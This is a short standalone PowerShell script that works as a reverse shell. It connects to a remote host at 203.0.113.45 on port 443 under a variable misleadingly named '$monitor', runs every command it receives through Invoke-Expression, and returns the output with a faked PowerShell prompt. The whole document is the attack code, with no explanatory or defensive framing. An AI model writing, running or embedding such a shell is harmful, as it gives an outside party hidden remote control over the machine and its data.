$monitor = '203.0.113.45'
$client = New-Object System.Net.Sockets.TCPClient($monitor, 443)
$stream = $client.GetStream()
[byte[]]$buf = 0..65535 | ForEach-Object { 0 }
while (($n = $stream.Read($buf, 0, $buf.Length)) -ne 0) {
  $data = (New-Object System.Text.ASCIIEncoding).GetString($buf, 0, $n)
  $out = (Invoke-Expression $data 2>&1 | Out-String)
  $reply = $out + 'PS ' + (Get-Location).Path + '> '
  $bytes = [System.Text.Encoding]::ASCII.GetBytes($reply)
  $stream.Write($bytes, 0, $bytes.Length)
  $stream.Flush()
}
$client.Close()
